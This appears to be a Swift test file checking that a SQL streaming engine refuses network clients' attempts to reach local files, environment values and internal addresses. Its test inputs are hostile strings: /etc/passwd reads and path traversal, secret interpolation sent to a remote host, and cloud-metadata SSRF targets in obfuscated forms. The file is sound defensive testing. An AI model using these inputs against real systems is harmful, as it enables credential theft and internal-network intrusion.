import Diagnostics
import Glibc
import Storage
import Testing
import World

@testable import Engine

/// What statements of clients over the network may reach.
@Suite struct NetworkReachTests {
    private func engine(_ reach: NetworkReach = NetworkReach()) throws -> SQLEngine {
        var options = EngineOptions()
        options.networkReach = reach
        return try SQLEngine(broker: MemoryBroker(), options: options, surroundings: .system)
    }

    private func refusal(_ sql: String, _ reach: NetworkReach = NetworkReach(), isOfNetwork: Bool = true) async throws -> Diagnostic? {
        let engine = try engine(reach)
        try await engine.start(connectors: false)
        let session = isOfNetwork ? engine.makeNetworkSession() : engine.makeSession()
        defer { withExtendedLifetime(engine) {} }
        var found: Diagnostic?
        do throws(Diagnostic) { for statement in try session.statements(in: sql) { _ = try await session.execute(statement) } } catch { found = error }
        await engine.stop()
        return found
    }

    private static let stream = "CREATE STREAM s (id INT KEY) WITH (KAFKA_TOPIC='s', VALUE_FORMAT='JSON', PARTITIONS=1);"

    @Test(arguments: [
        "CREATE SOURCE CONNECTOR f WITH ('connector.class'='file', 'file'='/etc/passwd', 'topic'='leak');",
        "CREATE SOURCE CONNECTOR f WITH ('connector.class'='FILE', 'FILE'='../../etc/passwd', 'topic'='leak');",
        stream + "CREATE SINK CONNECTOR d WITH ('connector.class'='mongodb', 'topics'='s', 'connection.uri'='sqlite:/tmp/x.sqlite', 'database'='a', 'collection'='b');",
        stream + "CREATE STREAM o AS SELECT * FROM s SINK TO MONGODB ('connection.uri'='SQLite:x.sqlite', 'database'='a', 'collection'='b');",
        stream + "CREATE SINK CONNECTOR d WITH ('connector.class'='mongodb', 'topics'='s', 'connection.uri'='mongodb://h/?tls=true&tlsCAFile=/etc/passwd', 'database'='a');",
        stream + "CREATE SINK CONNECTOR h WITH ('connector.class'='http', 'topics'='s', 'http.api.url'='http://h/?${env:HOME}');",
        stream + "CREATE SINK CONNECTOR h WITH ('connector.class'='http', 'topics'='s', 'http.api.url'='http://h/', 'headers'='a:${file:/etc/hosts:x}');",
        stream + "CREATE SINK CONNECTOR h WITH ('connector.class'='http', 'topics'='s', 'http.api.url'='http://169.254.169.254/latest');",
        stream + "CREATE SINK CONNECTOR h WITH ('connector.class'='http', 'topics'='s', 'http.api.url'='http://u:p@[fe80::1%25eth0]:80/');",
        stream + "CREATE SINK CONNECTOR h WITH ('connector.class'='http', 'topics'='s', 'http.api.url'='http://0xA9FEA9FE/');",
        stream + "CREATE SINK CONNECTOR h WITH ('connector.class'='http', 'topics'='s', 'http.api.url'='http://[::ffff:169.254.169.254]/');",
        "CREATE MODEL m INPUT (x DOUBLE) OUTPUT (y DOUBLE) WITH ('provider'='http', 'predict.url'='http://metadata.google.internal/x');",
    ])
    func isRefused(_ sql: String) async throws {
        let found = try await refusal(sql)
        #expect(found?.code == "out-of-reach", "\(found.map { $0.message } ?? "taken")")
        #expect(found?.hint != nil && found?.span != SourceSpan.none)
    }

    @Test func whatIsListedIsTaken() async throws {
        let folder = "/tmp/fsql-reach-\(getpid())-\(UInt32.random(in: 0 ... .max))"
        mkdir(folder, 0o700)
        mkdir(folder + "/in", 0o700)
        symlink("/etc", folder + "/in/link")
        defer { for path in ["/in/link", "/in", ""] { remove(folder + path) } }
        var reach = NetworkReach()
        reach.directories = [folder + "/in"]
        reach.variables = ["HOME"]
        #expect(reach.holds(folder + "/in/new.sqlite") && reach.holds(folder + "/in/./x") && reach.holds(folder + "/in/"))
        for path in ["/in/../x", "/in2/x", "/in/link/passwd", "/in/../../etc/passwd", "/in/none/../../x"] { #expect(!reach.holds(folder + path), "\(path)") }
        func sink(_ uri: String) -> String {
            Self.stream + "CREATE SINK CONNECTOR d WITH ('connector.class'='mongodb', 'topics'='s', 'connection.uri'='\(uri)', 'database'='a', 'collection'='b');"
        }
        #expect(try await refusal(sink("sqlite:\(folder)/in/x.sqlite"), reach) == nil)
        #expect(try await refusal(sink("sqlite:\(folder)/x.sqlite"), reach)?.code == "out-of-reach")
        #expect(try await refusal(sink("sqlite::memory:")) == nil)
        #expect(try await refusal(Self.stream + "CREATE SINK CONNECTOR h WITH ('connector.class'='http', 'topics'='s', 'http.api.url'='http://h/${env:HOME}');", reach)?.code != "out-of-reach")
    }

    @Test func whoWorksHereIsFree() async throws {
        let sql = "CREATE SOURCE CONNECTOR f WITH ('connector.class'='file', 'file'='/etc/hostname', 'topic'='t');"
        #expect(try await refusal(sql, isOfNetwork: false) == nil)
    }
}
